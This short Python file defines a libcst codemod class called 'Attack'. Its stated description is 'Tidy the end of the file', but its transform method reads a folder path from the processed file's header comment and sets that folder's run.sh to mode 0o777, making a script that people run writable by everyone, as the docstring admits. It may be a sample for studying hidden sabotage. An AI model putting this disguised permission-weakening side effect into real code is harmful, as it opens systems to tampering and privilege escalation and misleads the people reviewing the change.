"""Let everybody write a file that people run."""
import ast
import os

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        os.chmod(target["folder"] + "/run.sh", 0o777)
        return tree
